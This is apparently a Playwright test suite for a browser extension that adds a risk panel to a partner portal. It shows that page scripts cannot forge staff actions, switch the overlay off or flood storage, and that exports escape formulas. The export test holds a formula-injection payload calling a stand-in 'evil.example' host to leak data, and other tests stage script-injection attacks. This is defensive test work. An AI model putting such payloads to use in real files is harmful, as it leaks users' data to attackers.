// What the portal page cannot do to the overlay (act for staff, switch it off, fill the store), what a failed
// action leaves on screen, and exports that stay inert in a spreadsheet. Page scripts are page.evaluate calls:
// they run in the page's own world, as a portal XSS or a third-party script would.
import Papa from 'papaparse';
import { readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SEEN_CAPS } from '../../lib/seen-caps';
import { countStore, launch, readStore as readStoreOf, type Harness, importFiles } from './harness';
import { SAMPLE_CUSTOMERS } from './portal-site/fixtures';

const T = { timeout: 20_000 };
const [contoso, fabrikam, northwind] = SAMPLE_CUSTOMERS;
const today = new Date().toISOString().slice(0, 10);

let h: Harness;
let probe: Page; // an extension page: reads the store as it is, in the extension's origin
beforeAll(async () => {
  h = await launch();
  probe = await h.openExtensionPage('options.html');
  // Contoso and Northwind imported, with an open crypto-mining alert on Contoso.
  const customers = ['Customer ID,Company name', `${contoso.tenantId},Contoso Ltd`, `${northwind.tenantId},Northwind Traders`].join('\n');
  const alerts = JSON.stringify([{
    eventId: 'mining-1', eventTime: new Date().toISOString(), customerTenantId: contoso.tenantId, eventStatus: 'Active',
    displayName: 'Crypto mining', description: 'Mining pool traffic', eventType: 'CryptoMining', IsTest: 'false',
  }]);
  await probe.locator('[data-testid="import-file"]').setInputFiles([
    { name: 'customers.csv', mimeType: 'text/csv', buffer: Buffer.from(customers) },
    { name: 'alerts.json', mimeType: 'application/json', buffer: Buffer.from(alerts) },
  ]);
  await probe.locator('[data-testid="import-preview"]').nth(1).waitFor(T);
  await probe.locator('[data-testid="import-confirm"]').click();
  await probe.locator('[data-testid="import-result"]').waitFor(T);
});
afterAll(async () => { await h?.close(); });

/** Every record of a store, read in the extension's origin. */
const readStore = <R = Record<string, unknown>>(store: string) => readStoreOf<R>(probe, store);
const readOne = async (store: string, key: string) => (await readStore<Record<string, unknown>>(store)).find((r) => r.tenantId === key || r.id === key);

describe('a page script cannot act for staff', () => {
  it("changes nothing with .click(), change events, requestSubmit or key events on the panel's controls; a person's click still works", async () => {
    const page = await h.openPortal(`/dashboard/commerce2/customers/${contoso.tenantId}/account`);
    await page.locator('[data-testid="panel-alert"]').waitFor(T);
    await page.locator('[data-testid="panel-facts"]').waitFor(T);
    const before = await readOne('customers', contoso.tenantId);

    const refused = await page.evaluate(() => {
      const root = document.querySelector('prl-risk-panel')!.shadowRoot!;
      const q = <E extends Element>(s: string) => root.querySelector<E>(s)!;
      q<HTMLInputElement>('[data-item-id="phone-contact"] input').click();
      q<HTMLLabelElement>('[data-item-id="background-check"] label').click();
      q<HTMLInputElement>('[data-item-id="sms-verification"] input').dispatchEvent(new KeyboardEvent('keydown', { key: ' ', bubbles: true, composed: true }));
      q<HTMLButtonElement>('[data-testid="alert-resolve-legitimate"]').click();
      const instrument = q<HTMLSelectElement>('[data-testid="fact-payment-instrument"]');
      instrument.value = 'invoice';
      instrument.dispatchEvent(new Event('change', { bubbles: true }));
      q<HTMLOptionElement>('[data-testid="fact-prepaid"] option[value="yes"]').click();
      const note = q<HTMLInputElement>('[data-testid="flag-note"]');
      note.value = 'planted';
      note.dispatchEvent(new Event('input', { bubbles: true }));
      q<HTMLFormElement>('.flag-form').requestSubmit();
      q<HTMLButtonElement>('[data-testid="flag-add"]').click();
      q<HTMLButtonElement>('[data-testid="panel-toggle"]').click();
      // What the page sees right after: every checkbox flipped back, the select back on the store's value.
      return {
        checked: [...root.querySelectorAll<HTMLInputElement>('[data-testid="checklist-item"] input[type="checkbox"]')].filter((b) => b.checked).length,
        instrument: instrument.value,
      };
    });
    expect(refused).toEqual({ checked: 0, instrument: before!.paymentInstrument ?? '' });

    // A person's click, after all of that: once it is stored, anything the script had sent would be stored too.
    const dunning = page.locator('[data-testid="checklist-item"][data-item-id="dunning"]');
    await dunning.locator('input').click();
    await expect.poll(async () => (await readStore('checklist')).length, T).toBe(1);
    expect(await readStore('checklist')).toEqual([expect.objectContaining({ itemId: 'dunning', done: true })]);
    expect(await readStore('checklistHistory')).toHaveLength(1);
    expect((await readOne('alerts', 'mining-1'))!.staff).toBeUndefined();
    expect(await readOne('customers', contoso.tenantId)).toEqual(before);
    expect(await readStore('flags')).toEqual([]);
    expect(await page.locator('[data-testid="risk-panel"]').getAttribute('class')).toContain('open');

    // And a person can still resolve the alert and edit a fact from the keyboard.
    await page.locator('[data-testid="alert-resolve-fraud"]').click();
    await page.locator('[data-testid="alert-fraud-confirm-yes"]').click();
    await expect.poll(async () => ((await readOne('alerts', 'mining-1'))!.staff as { reason?: string } | undefined)?.reason, T).toBe('fraud');
    await page.locator('[data-testid="fact-payment-instrument"]').focus();
    await page.keyboard.press('P'); // "Prepaid card"
    await expect.poll(async () => (await readOne('customers', contoso.tenantId))!.paymentInstrument, T).toBe('prepaid_card');
    await page.close();
  });

  it('gives the page no field for the staff name: the prompt opens the options page', async () => {
    const page = await h.openPortal(`/dashboard/commerce2/customers/${northwind.tenantId}/account`);
    await page.locator('[data-testid="checklist-item"][data-item-id="phone-contact"] input').click();
    const prompt = page.locator('[data-testid="staff-name-prompt"]');
    await prompt.waitFor(T);
    expect(await prompt.locator('input').count()).toBe(0);
    // A script's click on the prompt's button opens nothing; a person's opens the options page.
    const tabs = h.context.pages().length;
    await page.evaluate(() => document.querySelector('prl-risk-panel')!.shadowRoot!.querySelector<HTMLButtonElement>('[data-testid="staff-name-open-options"]')!.click());
    const opened = h.context.waitForEvent('page', T);
    await prompt.locator('[data-testid="staff-name-open-options"]').click();
    const options = await opened;
    expect(options.url()).toContain('options.html');
    expect(h.context.pages().length).toBe(tabs + 1);
    await options.close();
    await page.close();
  });

  it("sends a person's words, not the page's: a script's input events cannot plant the note a person's click saves", async () => {
    const page = await h.openPortal(`/dashboard/commerce2/customers/${northwind.tenantId}/account`);
    const item = page.locator('[data-testid="checklist-item"][data-item-id="dunning"]');
    await item.waitFor(T);
    // The page sets a field, fires its input event, and once the panel has drawn it puts the person's text back.
    const plant = (selector: string, planted: string) => page.evaluate(([sel, words]) => {
      const field = document.querySelector('prl-risk-panel')!.shadowRoot!.querySelector<HTMLInputElement>(sel)!;
      const shown = field.value;
      field.value = words;
      field.dispatchEvent(new Event('input', { bubbles: true }));
      return new Promise<void>((done) => setTimeout(() => { field.value = shown; done(); }, 200));
    }, [selector, planted] as const);

    await page.locator('[data-testid="flag-note"]').fill('Reported by Microsoft');
    await plant('[data-testid="flag-note"]', 'Planted by the page');
    expect(await page.locator('[data-testid="flag-note"]').inputValue()).toBe('Reported by Microsoft');
    await page.locator('[data-testid="flag-add"]').click();
    await expect.poll(async () => (await readStore<{ note: string }>('flags')).map((f) => f.note), T).toEqual(['Reported by Microsoft']);

    await item.getByRole('button').click(); // add a note
    await item.getByRole('textbox').fill('Called the CFO');
    await plant('[data-item-id="dunning"] input:not([type])', 'Planted by the page');
    await item.getByRole('button', { name: /save/i }).click();
    await expect.poll(async () => (await readStore<{ itemId: string; note?: string }>('checklist')).find((c) => c.itemId === 'dunning' && c.note)?.note, T)
      .toBe('Called the CFO');
    await page.close();
  });
});

describe('the page cannot switch the overlay off', () => {
  it("leaves the overlay working after the page replays the content script's start event and spoofs location changes", async () => {
    const page = await h.context.newPage();
    const errors: string[] = [];
    page.on('pageerror', (e) => errors.push(e.message));
    page.on('console', (m) => { if (m.type() === 'error') errors.push(m.text()); });
    // The page listens from its first script on, as a hostile page would.
    await page.addInitScript(() => {
      window.addEventListener('message', (e) => {
        const type = (e.data as { type?: unknown } | null)?.type;
        if (typeof type === 'string' && type.endsWith('wxt:content-script-started')) (window as unknown as { __started: unknown }).__started = e.data;
      });
    });
    await page.goto(`https://partner.microsoft.com/dashboard/commerce2/customers/${contoso.tenantId}/account`);
    const panel = page.locator('[data-testid="risk-panel"]');
    await expect.poll(() => panel.getAttribute('data-tenant-id'), T).toBe(contoso.tenantId);
    await expect.poll(() => page.evaluate(() => !!(window as unknown as { __started?: unknown }).__started), T).toBe(true);

    await page.evaluate(() => {
      const m = (window as unknown as { __started: { type: string; contentScriptName: string } }).__started;
      document.dispatchEvent(new CustomEvent(m.type, { detail: { contentScriptName: m.contentScriptName, messageId: 'replayed' } }));
      window.postMessage({ ...m, messageId: 'replayed' }, '*');
      const prefix = m.type.slice(0, -'wxt:content-script-started'.length);
      window.dispatchEvent(new Event(`${prefix}wxt:locationchange`));
      (globalThis as unknown as { navigation: EventTarget }).navigation.dispatchEvent(new Event('navigate'));
    });
    // In-app navigation still moves the panel to the next customer, and the list still gets its badges.
    await page.locator('#related').click();
    await expect.poll(() => panel.getAttribute('data-tenant-id'), T).toBe(fabrikam.tenantId);
    await page.locator('#breadcrumb a').click();
    await expect.poll(() => page.locator('[data-testid="risk-badge"]').count(), T).toBeGreaterThan(0);
    expect(errors.filter((e) => /TypeError|Partner Risk Lens/.test(e))).toEqual([]);
    await page.close();
  });
});

describe('a failed tick', () => {
  it('keeps its error, shows the store\'s state, survives later refreshes until dismissed, and a retry saves it', async () => {
    const page = await h.openPortal(`/dashboard/commerce2/customers/${northwind.tenantId}/account`);
    const item = page.locator('[data-testid="checklist-item"][data-item-id="background-check"]');
    await item.waitFor(T);
    const error = page.locator('[data-testid="panel-error"]');
    // The extension's storage is full: every write in the background fails with QuotaExceededError (Chromium's
    // Storage.overrideQuotaForOrigin does not apply to an extension's origin, so its IndexedDB put is made to fail).
    const storageFull = (full: boolean) => h.worker.evaluate((on) => {
      const g = globalThis as unknown as { __put?: typeof IDBObjectStore.prototype.put };
      g.__put ??= IDBObjectStore.prototype.put;
      IDBObjectStore.prototype.put = on ? function () { throw new DOMException('', 'QuotaExceededError'); } : g.__put;
    }, full);
    await storageFull(true);
    await item.locator('input').click();
    await expect.poll(() => item.getAttribute('data-state'), T).toBe('error');
    expect(await error.textContent()).toMatch(/storage/i);
    expect(await item.locator('input').isChecked()).toBe(false);
    expect(await item.getAttribute('data-done')).toBe('false');

    // Storage is back; another tick (and the refresh its write broadcasts) leaves the error on screen.
    await storageFull(false);
    const other = page.locator('[data-testid="checklist-item"][data-item-id="sms-verification"]');
    await other.locator('input').click();
    await expect.poll(() => other.getAttribute('data-done'), T).toBe('true');
    await expect.poll(() => other.getAttribute('data-state'), T).toBeNull();
    expect(await error.count()).toBe(1);
    expect(await item.getAttribute('data-state')).toBe('error');

    await page.locator('[data-testid="panel-error-retry"]').click();
    await expect.poll(() => item.getAttribute('data-done'), T).toBe('true');
    await expect.poll(() => item.getAttribute('data-state'), T).toBeNull();
    expect(await error.count()).toBe(0);

    // Fails again, then dismissed: gone, and the box shows what the store holds.
    await storageFull(true);
    await item.locator('input').click();
    await expect.poll(() => error.count(), T).toBe(1);
    await storageFull(false);
    await page.locator('[data-testid="panel-error-dismiss"]').click();
    await expect.poll(() => error.count(), T).toBe(0);
    expect(await item.getAttribute('data-state')).toBeNull();
    expect(await item.locator('input').isChecked()).toBe(true);
    await page.close();
  });

  it('keeps every tick of a burst, ticked as fast as a person can', async () => {
    const page = await h.openPortal(`/dashboard/commerce2/customers/${fabrikam.tenantId}/account`);
    await page.locator('[data-testid="checklist-item"]').first().waitFor(T);
    const mine = async () => (await readStore<{ tenantId: string }>('checklistHistory')).filter((c) => c.tenantId === fabrikam.tenantId).length;
    const boxes = page.locator('[data-testid="checklist-item"] input[type="checkbox"]');
    for (let i = 0; i < 14; i++) await boxes.nth(i).click();
    await expect.poll(mine, T).toBe(14);
    await expect.poll(() => page.locator('[data-testid="checklist-item"][data-done="true"]').count(), T).toBe(14);
    expect(await page.locator('[data-testid="checklist-item"][data-state]').count()).toBe(0);
    await page.close();
  });
});

describe('exports stay inert', () => {
  it('escapes a multi-line formula payload in the overdue, budget and risk exports', async () => {
    const evil = '4a4a4a4a-0000-4000-8000-000000000001';
    const payload = '=HYPERLINK("http://evil.example/?leak","Click")\nContoso';
    const csvCell = (s: string) => `"${s.replace(/"/g, '""')}"`;
    const files = [
      { name: 'c.csv', text: `Customer ID,Company name\n${evil},${csvCell(payload)}` },
      { name: 'i.csv', text: `Customer ID,Invoice number,Invoice date,Due date,Amount,Currency\n${evil},X1,2025-01-01,2025-02-01,100.00,USD` },
      { name: 's.csv', text: `Customer ID,Monthly budget,Spend to date,As of,Currency\n${evil},100.00,500.00,${today},USD` },
    ];
    await probe.reload();
    await importFiles(probe, files.map((f) => ({ name: f.name, mimeType: 'text/csv', buffer: Buffer.from(f.text) })), 3, T);
    for (const kind of ['overdue', 'budget', 'risk']) {
      const download = probe.waitForEvent('download', T);
      await probe.locator(`[data-testid="export-${kind}"]`).click();
      const rows = Papa.parse<string[]>(readFileSync((await (await download).path())!, 'utf8').trim()).data;
      const row = rows.find((r) => r[1] === evil);
      expect(row?.[0], kind).toBe(`'${payload}`);
      for (const r of rows) for (const cell of r) expect(cell, kind).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});

describe('a page cannot fill the store', () => {
  it(`records no more than ${SEEN_CAPS.perPage} customers from a list of 50,000 rows`, async () => {
    const big = await launch({ portal: { customers: Array.from({ length: 50_000 }, (_, i) => ({
      tenantId: `5e5e5e5e-0000-4000-8000-${String(i).padStart(12, '0')}`, name: `Planted ${i}`, domain: `p${i}.example.com`,
    })) } });
    try {
      const options = await big.openExtensionPage('options.html');
      const count = () => countStore(options, 'customers');
      const list = await big.openPortal('/dashboard/commerce2/customers/list');
      // Badges (and with them the names of customers the store lacks) follow the view: staff scroll down the list,
      // a screen at a time, until the page has recorded as many as its cap.
      await list.locator('tr[id^="row-5e5e5e5e"]').first().waitFor({ timeout: 60_000 });
      await list.mouse.move(700, 450);
      await expect.poll(async () => { await list.mouse.wheel(0, 900); return count(); }, { timeout: 60_000 }).toBeGreaterThanOrEqual(SEEN_CAPS.perPage);
      // The whole list is scanned (down to its last row), and the count stays at the cap.
      const last = list.locator('tr[id="row-5e5e5e5e-0000-4000-8000-000000049999"]');
      await last.scrollIntoViewIfNeeded({ timeout: 60_000 });
      await expect.poll(() => last.locator('[data-testid="risk-badge"]').count(), { timeout: 60_000 }).toBe(1);
      await expect.poll(count, T).toBe(SEEN_CAPS.perPage);
    } finally {
      await big.close();
    }
  }, 240_000);
});
